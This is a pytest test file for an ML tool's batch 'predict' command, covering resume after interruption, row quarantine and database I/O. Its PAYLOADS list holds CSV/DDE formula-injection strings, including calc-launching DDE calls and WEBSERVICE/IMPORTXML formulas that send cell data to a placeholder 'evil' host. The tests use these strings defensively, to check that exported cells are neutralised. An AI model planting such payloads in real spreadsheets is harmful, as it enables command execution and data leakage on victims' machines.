"""`mldeploy predict` answers tables of any size, and goes on where it was stopped."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import polars as pl
import pytest
import sqlalchemy as sa

from mldeploy.model import Bundle
from mldeploy.project import Project, stated_problem
from mldeploy.serving import read_log
from mldeploy.store import Store

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil","click")',
    '=WEBSERVICE("http://evil/"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "x\r=1+1",
    "x\n=1+1",
    'x"\n=1+1',
    '","=1+1',
    '";=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "=",
    "-",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil?",A1),"//a")',
    "==1",
]
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


Run = Callable[..., tuple[int, str, str]]


def cells(path: Path) -> list[list[str]]:
    """Every cell as a spreadsheet reads it: quotes taken off, whatever ends a line."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def test_hostile_keys_of_a_file_are_harmless_in_its_answers(run: Run, tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": PAYLOADS, "x": 0.5, "hour": 3, "carrier": "AA"})
    frame.to_parquet(tmp_path / "rows.parquet")
    out = tmp_path / "answers.csv"

    code, _, error = run(
        "predict", "delays", tmp_path / "rows.parquet", "--out", out, "--key", "id"
    )

    assert code == 0, error
    header, *rows = cells(out)
    keys = [row[header.index("key")] for row in rows]
    assert [key.removeprefix("'") for key in keys] == PAYLOADS
    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row)


def test_columns_are_kept_and_refused_rows_stand_aside(
    run: Run, data: Path, store: Path, tmp_path: Path
) -> None:
    frame = pd.read_csv(data).head(10).astype({"x": object})
    frame.loc[3, "x"] = "high"
    frame.to_csv(tmp_path / "rows.csv", index=False)
    out, bad = tmp_path / "out.parquet", tmp_path / "bad.csv"

    code, shown, error = run(
        *("predict", "delays:1", tmp_path / "rows.csv", "--out", out, "--quarantine", bad),
        *("--keep", "hour", "carrier"),
    )

    assert code == 0, error
    assert "9 answers by delays:1" in shown
    assert "1 refused" in shown
    kept = frame.drop(index=3)[["hour", "carrier"]].to_numpy().tolist()
    assert [list(row) for row in pl.read_parquet(out).select("hour", "carrier").rows()] == kept
    assert pl.read_csv(bad).select("refused_row", "x").rows() == [(3, "high")]
    assert read_log(store / "predictions", deployment="batch-1").height == 9


def test_predictions_are_not_logged_when_nobody_wants_it(
    run: Run, data: Path, store: Path, tmp_path: Path
) -> None:
    code, _, error = run("predict", "delays", data, "--out", tmp_path / "out.csv", "--no-log")

    assert code == 0, error
    assert "prediction_id" not in pl.read_csv(tmp_path / "out.csv").columns
    assert not list((store / "predictions").rglob("*batch*"))


def test_a_bundle_answers_without_a_store(
    run: Run, data: Path, store: Path, tmp_path: Path
) -> None:
    model = bundle(store, tmp_path / "bundle")
    out = tmp_path / "out.parquet"

    code, shown, error = run(
        *("--store", tmp_path / "none", "predict", "--bundle", tmp_path / "bundle"),
        *(data, "--out", out),
    )

    assert code == 0, error
    assert "1,200 answers" in shown
    expected = model.score(pd.read_csv(data))
    np.testing.assert_allclose(pl.read_parquet(out)["score"].to_numpy(), expected, rtol=1e-9)
    code, _, error = run(
        "predict", "--bundle", tmp_path / "bundle", "delays", data, "--out", "x.csv"
    )
    assert (code, "the data alone" in error) == (2, True)
    code, _, error = run("predict", data, "--out", tmp_path / "x.csv")
    assert (code, "name a version and the data" in error) == (2, True)


def bundle(store: Path, place: Path):
    with Store.open(store) as opened:
        project = Project(stated_problem(opened, "delays"), store=opened)
        model = project.release(project.registry.get("delays", 1)).model
    Bundle.write(place, model)
    return model


def test_a_table_of_a_database_is_read_and_written(run: Run, data: Path, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'rows.sqlite'}"
    frame = pd.read_csv(data).drop(columns="late")
    with sa.create_engine(url).begin() as connection:
        frame.reset_index(names="id").to_sql("flights", connection, index=False)

    code, _, error = run("predict", "delays", f"{url}#flights", "--out", f"{url}#answers")
    assert (code, "order_by" in error) == (2, True)
    code, shown, error = run(
        *("predict", "delays", f"{url}#flights", "--out", f"{url}#answers"),
        *("--order-by", "id", "--key", "id"),
    )

    assert code == 0, error
    assert "1,200 answers" in shown
    with sa.create_engine(url).connect() as connection:
        keys = connection.execute(sa.text("SELECT key FROM answers ORDER BY rowid")).scalars()
        assert list(keys) == [str(i) for i in range(1200)]


@pytest.mark.slow
def test_ctrl_c_leaves_what_can_be_resumed_and_says_so(
    store: Path, data: Path, tmp_path: Path
) -> None:
    rows = pl.concat([pl.read_csv(data)] * 1000)
    rows.write_parquet(tmp_path / "rows.parquet")
    bundle(store, tmp_path / "bundle")
    command = [
        *(sys.executable, "-m", "mldeploy.cli", "predict", "--bundle", tmp_path / "bundle"),
        *(tmp_path / "rows.parquet", "--out", tmp_path / "out.parquet"),
    ]
    begun = tmp_path / "out.parquet.unfinished"
    environment = {**os.environ, "OMP_NUM_THREADS": "1"}
    job = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env=environment)
    while job.poll() is None and not list(begun.glob("part-*")):
        time.sleep(0.005)
    job.send_signal(signal.SIGINT)
    _, told = job.communicate(timeout=60)

    assert job.returncode == 130, told
    assert "rows are done and kept" in told
    assert "--resume" in told
    assert "Traceback" not in told
    done = subprocess.run(
        [*command, "--resume"], capture_output=True, text=True, check=True, env=environment
    )
    assert "of them earlier" in done.stdout
    answers = pl.read_parquet(tmp_path / "out.parquet")
    assert answers.height == rows.height
    assert answers["score"].to_list() == answers["score"][:1200].to_list() * 1000
